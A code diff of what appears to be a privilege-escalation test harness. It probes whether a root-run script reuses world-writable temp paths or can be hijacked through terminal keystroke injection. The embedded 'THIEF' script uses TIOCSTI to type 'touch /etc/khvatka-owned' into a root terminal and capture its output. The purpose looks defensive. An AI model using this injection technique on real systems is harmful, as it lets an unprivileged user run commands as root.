@@ -137,7 +137,7 @@ def temporary(ground: Ground) -> str:
     """Names in folders that anybody may write to, that root uses again and again."""
     ground.khvatka("cat >$HOME/table/watch.py", WATCH)
     runs = []
-    before = set(ground.root("ls -d /tmp/* /var/tmp/* /run/lock/* /dev/shm/*").stdout.split())
+    before = set(ground.root("find /tmp /var/tmp /run/lock /dev/shm -maxdepth 1").stdout.split())
     for _ in range(2):
         done = ground.root(
             "setpriv --reuid=khvatka --regid=khvatka --init-groups"
@@ -182,7 +182,7 @@ def shell(ground: Ground) -> str:
 
 
 THIEF: Final = """
-import ctypes, fcntl, os, sys, termios, time
+import ctypes, fcntl, os, signal, sys, termios, time
 libc = ctypes.CDLL(None, use_errno=True)
 end, tty = time.monotonic() + 40, None
 while tty is None and time.monotonic() < end:
@@ -214,7 +214,7 @@ for sign in "touch /etc/khvatka-owned\\n":
         fcntl.ioctl(tty, termios.TIOCSTI, sign.encode())
     except OSError:
         break
-os.set_blocking(tty, False)
+signal.alarm(20)
 while time.monotonic() < end:
     try:
         if got := os.read(tty, 1000):
@@ -263,7 +263,7 @@ def terminal(ground: Ground) -> str:
         thief = f"setpriv --reuid=khvatka --regid=khvatka --init-groups python3 {DATA}/thief.py >{DATA}/thief.said 2>&1 &"
         ground.root(
             f"touch {DATA}/thief.said; chown khvatka {DATA}/thief.said; {'' if inside else thief}"
-            " sleep 1; python3 /srv/work/owner.py; wait; sleep 12",
+            " sleep 1; python3 /srv/work/owner.py; wait; sleep 3",
             limit_s=90,
         )
         said = ground.root(f"cat {DATA}/thief.said; rm {DATA}/thief.said").stdout
